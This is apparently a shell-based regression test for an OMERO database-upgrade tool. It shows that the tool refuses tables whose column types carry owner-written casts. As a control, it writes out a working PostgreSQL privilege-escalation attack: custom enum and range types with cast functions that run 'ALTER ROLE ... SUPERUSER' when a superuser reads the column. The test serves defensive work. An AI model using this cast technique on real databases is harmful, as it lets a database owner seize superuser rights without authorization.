# Planted casts (issue 13, item 2): a cast is looked up by type, not by search_path, so an OMERO
# owner who gives a column of OMERO's table a type of its own, with a cast whose function it
# wrote, has that function run by whoever reads the column with a cast (dbpatch's
# currentversion::text) or through an implicit cast (a colour compared with pg_catalog's
# operators). Here the function, run as a superuser, makes the owner one. The attack is shown to
# work first (plain psql as postgres); then the extension's functions, the tool's status and
# check, and a restore of a dump holding it (loaded as the owner, then read as --db-user postgres)
# refuse the table before reading it, and nobody became superuser.
source "$(dirname "$0")/../lib/tap.sh"
source "$OU_SRC/test/lib/sample-server.sh"

t=$(scratch)
psql -X -q -d postgres -c "CREATE ROLE c59_omero LOGIN CREATEDB"
fixture_db c59_db --owner c59_omero
q c59_db -c "CREATE EXTENSION omero_upgrade"
psql -X -q -v ON_ERROR_STOP=1 -U c59_omero -d c59_db <<'SQL'
CREATE TABLE public.c59_log (who name, su bool);
CREATE FUNCTION public.c59_fire() RETURNS void LANGUAGE plpgsql AS $f$
DECLARE s bool := (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user);
BEGIN
  INSERT INTO public.c59_log VALUES (current_user, s);
  IF s THEN EXECUTE 'ALTER ROLE c59_omero SUPERUSER'; END IF;
END $f$;
GRANT INSERT ON public.c59_log TO PUBLIC;
DO $d$ BEGIN
  EXECUTE pg_catalog.format('CREATE TYPE public.c59_v AS ENUM (%s)',
    (SELECT pg_catalog.string_agg(DISTINCT pg_catalog.quote_literal(currentversion), ',') FROM public.dbpatch));
END $d$;
CREATE FUNCTION public.c59_v_text(public.c59_v) RETURNS text LANGUAGE plpgsql AS $f$
BEGIN PERFORM public.c59_fire(); RETURN pg_catalog.textin(pg_catalog.enum_out($1)); END $f$;
CREATE CAST (public.c59_v AS text) WITH FUNCTION public.c59_v_text(public.c59_v);
ALTER TABLE public.dbpatch ALTER currentversion TYPE public.c59_v USING currentversion::text::public.c59_v;
SQL
supers() { q postgres -c "SELECT count(*) FROM pg_roles WHERE rolname = 'c59_omero' AND rolsuper"; }
fired() { q "$1" -c "SELECT count(*) FROM public.c59_log"; }
unfire() { q postgres -c "ALTER ROLE c59_omero NOSUPERUSER" >/dev/null; q "$1" -c "TRUNCATE public.c59_log"; }

# The attack works: a superuser reading the version as OMERO's scripts and tools do.
q c59_db -c "SELECT currentversion::text FROM public.dbpatch ORDER BY id DESC LIMIT 1" >/dev/null
is "$(supers)" 1 "control: plain psql as postgres reading currentversion::text makes c59_omero superuser"
unfire c59_db

for f in "omero_db_version()" "omero_precheck()" "omero_precheck_report()"; do
  out=$(q c59_db -c "SELECT * FROM $f" 2>&1); rc=$?
  ok "$([ "$rc" -ne 0 ]; echo $?)" "$f as postgres: refused"
  like "$out" "OMERO's table public.dbpatch has columns whose types carry casts of their owner's: currentversion \(public\.c59_v\)" "… naming the column and its type"
done
is "$(fired c59_db)" 0 "… the cast's function never ran"
is "$(supers)" 0 "… and c59_omero is no superuser"

# The tool, as --db-user postgres: status and check read the version; a restore reads it after
# the load (loaded as the owner, nothing of its runs then).
srv=$t/OMERO.server
make_sample_server "$srv" 5.6.3 c59_db c59_omero
ou() { "$TOOL" --server-dir "$srv" --db-user postgres "$@"; }
out=$(ou status 2>&1); rc=$?
like "$out" "OMERO's table public.dbpatch has columns whose types carry casts of their owner's: currentversion \(public\.c59_v\)" \
  "status as postgres: names the column it refuses to read"
ou check >/dev/null 2>&1
is "$(fired c59_db)" 0 "… status and check: the cast's function never ran"
is "$(supers)" 0 "… and c59_omero is no superuser"
# The tool backs it up for no one (it reads the version first); pg_dump does (COPY uses the
# type's output function, no cast), adopted with backup import, then restored as postgres.
pg_dump -Fc -f "$t/c59.pgdump" c59_db
"$TOOL" --server-dir "$srv" backup import "$t/c59.pgdump" --backup-dir "$t/bk" >/dev/null 2>&1
unfire c59_db
f=$(ls "$t"/bk/*.pgdump)
out=$(ou restore "$f" --into c59_copy 2>&1); rc=$?
ok "$([ "$rc" -ne 0 ]; echo $?)" "restore of its dump as postgres: fails (exit $rc)"
like "$out" "has columns whose types carry casts of their owner's" "… when it would read the version"
is "$(q postgres -c "SELECT count(*) FROM pg_database WHERE datname = 'c59_copy'")" 0 "… and the database it made is dropped"
is "$(supers)" 0 "… and c59_omero is no superuser"

# dbpatch as OMERO has it again (read without the cast), for the colour column.
q c59_db -c "ALTER TABLE public.dbpatch ALTER currentversion TYPE varchar(255) USING pg_catalog.textin(pg_catalog.enum_out(currentversion))"
is "$(fired c59_db)" 0 "dbpatch put back without running the cast"
# A colour column: a range type with an implicit cast to integer, which pg_catalog's & would take.
psql -X -q -v ON_ERROR_STOP=1 -U c59_omero -d c59_db <<'SQL'
CREATE TYPE public.c59_c AS RANGE (subtype = int4);
CREATE FUNCTION public.c59_c_int(public.c59_c) RETURNS int4 LANGUAGE plpgsql AS $f$
BEGIN PERFORM public.c59_fire(); RETURN pg_catalog.lower($1); END $f$;
CREATE CAST (public.c59_c AS int4) WITH FUNCTION public.c59_c_int(public.c59_c) AS IMPLICIT;
ALTER TABLE public.shape ALTER fillcolor TYPE public.c59_c USING public.c59_c(fillcolor, fillcolor, '[]');
SQL
q c59_db -c "SELECT count(*) FROM public.shape WHERE fillcolor OPERATOR(pg_catalog.&) 255 = 0" >/dev/null
is "$(supers)" 1 "control: pg_catalog's & on that colour, as postgres, makes c59_omero superuser"
unfire c59_db
out=$(q c59_db -c "CALL omero_colors_convert('argb_to_rgba', method => 'batch')" 2>&1); rc=$?
ok "$([ "$rc" -ne 0 ]; echo $?)" "CALL omero_colors_convert as postgres: refused"
like "$out" "OMERO's table public.shape has columns whose types carry casts of their owner's: fillcolor \(public\.c59_c\)" "… naming the colour column"
out=$(q c59_db -c "SELECT * FROM omero_colors_convert_tx('argb_to_rgba', dry_run => true)" 2>&1); rc=$?
ok "$([ "$rc" -ne 0 ]; echo $?)" "omero_colors_convert_tx(dry_run) as postgres: refused"
is "$(fired c59_db)" 0 "… the cast's function never ran"
is "$(supers)" 0 "… and c59_omero is no superuser"
q c59_db -c "ALTER TABLE public.shape ALTER fillcolor TYPE int4 USING pg_catalog.lower(fillcolor)" \
  -c "DROP CAST (public.c59_c AS int4)" >/dev/null

q postgres -c "DROP DATABASE c59_db" -c "DROP DATABASE IF EXISTS c59_copy" -c "DROP ROLE c59_omero" >/dev/null
done_testing
